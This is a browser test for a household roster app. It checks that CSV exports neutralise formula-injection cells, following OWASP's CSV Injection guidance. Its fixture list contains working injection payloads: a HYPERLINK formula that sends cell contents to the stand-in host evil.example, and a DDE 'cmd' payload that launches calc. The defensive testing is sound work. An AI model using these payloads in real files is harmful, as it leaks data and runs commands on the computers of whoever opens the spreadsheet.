// Exports against formula injection (issue 14, item 8) in real headless Chromium: a roster whose ids, heads and
// villages are spreadsheet formulas is imported, and the roster and ledger CSV the browser downloads write every
// such cell as text, with a leading ' (OWASP "CSV Injection"); a name that is a plain number stays as it is.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { clickAnchor, frames, launch, openApp, openPage, serve, typeInto } from './harness.mjs';

let server, browser;
before(async () => { server = await serve(); browser = await launch(); });
after(async () => { await browser?.close(); await server?.close(); });

const state = (page) => page.evaluate(() => window.zengshou.state());

// What each name must be in the export, worked out by hand.
const names = [
  ['=HYPERLINK("http://evil.example/?"&A1,"点击")', '\'=HYPERLINK("http://evil.example/?"&A1,"点击")'],
  ['+1', '+1'],  // a plain number: a spreadsheet reads 1 and runs nothing
  ['-cmd', "'-cmd"],
  ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
  ['\tx', 'x'],  // a tab around a cell is trimmed on import, as spaces are (the tab rule: exports_test.cpp)
  ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
];

const csvCell = (text) => (/[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text);

// A CSV file's rows of cells (quoted cells, doubled quotes, CR LF).
function readCsv(text) {
  const rows = [[]];
  let cell = '', quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { rows.at(-1).push(cell); cell = ''; }
    else if (c === '\r' && text[i + 1] === '\n') { rows.at(-1).push(cell); cell = ''; rows.push([]); i++; }
    else cell += c;
  }
  assert.deepEqual(rows.pop(), []);  // the file ends with a line end
  return rows;
}

async function download(page, anchor) {
  const event = page.waitForEvent('download');
  await clickAnchor(page, anchor);
  const d = await event;
  const bytes = readFileSync(await d.path());
  assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
  return { name: d.suggestedFilename(), text: bytes.subarray(3).toString('utf8') };
}

test('roster and ledger exports write formula-like names as text', async () => {
  const { page, problems } = await openPage(browser, { viewport: { width: 1400, height: 1000 } });
  await openApp(page, server.url);
  await clickAnchor(page, 'tab_roster');
  // Household "=1+1" (sorted first) is headed by "-cmd"; households H0–H5 are headed by, and live in, each name.
  const rows = ['household_id,head,village,year,category,name,birth_year',
    `=1+1,-cmd,@村,2022,tuopin,-cmd,1980`,
    ...names.map(([name], i) => [`H${i}`, name, name, 2022, 'tuopin', name, 1970 + i].map(csvCell).join(','))];
  const chooser = page.waitForEvent('filechooser');
  await clickAnchor(page, 'roster_import');
  await (await chooser).setFiles({ name: 'hostile.csv', mimeType: 'text/csv',
    buffer: Buffer.from(rows.join('\r\n') + '\r\n') });
  await frames(page, 5);
  let s = await state(page);
  assert.deepEqual(s.open_errors, []);
  assert.equal(s.roster.households, names.length + 1);
  assert.equal(s.roster.first_rows[0].id, '=1+1');

  const roster = await download(page, 'roster_export');
  assert.equal(roster.name, 'roster.csv');
  assert.ok(roster.text.includes('"\'=HYPERLINK(""http://evil.example/?""&A1,""点击"")"'), roster.text);
  const table = readCsv(roster.text);
  assert.equal(table.length, names.length + 2);
  const byId = Object.fromEntries(table.slice(1).map((r) => [r[0], r]));
  assert.deepEqual(byId["'=1+1"].slice(0, 3), ["'=1+1", "'-cmd", "'@村"]);
  names.forEach(([, expected], i) => {
    assert.equal(byId[`H${i}`][1], expected, `head ${i}`);
    assert.equal(byId[`H${i}`][2], expected, `village ${i}`);
  });
  // Figures stay numbers: per-capita net and gap as the app shows them.
  for (const r of table.slice(1)) assert.match(r[5], /^-?[0-9]+\.[0-9]{2}$/);

  // The ledger of household "=1+1" (the first row), one quarter entered.
  const a = s.anchors.roster_row_0;
  await page.mouse.click(a.x + 20, a.y + a.h / 2);
  await frames(page, 3);
  await typeInto(page, 'ledger_q1_0', '3000');
  s = await state(page);
  assert.equal(s.roster.selected_quarters, 1);
  const ledger = await download(page, 'ledger_export');
  assert.equal(ledger.name, 'ledger-2022.csv');
  const lines = readCsv(ledger.text);
  assert.equal(lines.length, 2);
  assert.deepEqual(lines[1].slice(0, 6), ["'=1+1", "'-cmd", "'@村", '2022', '1', '3000.00']);
  assert.deepEqual(problems.pageErrors, []);
});
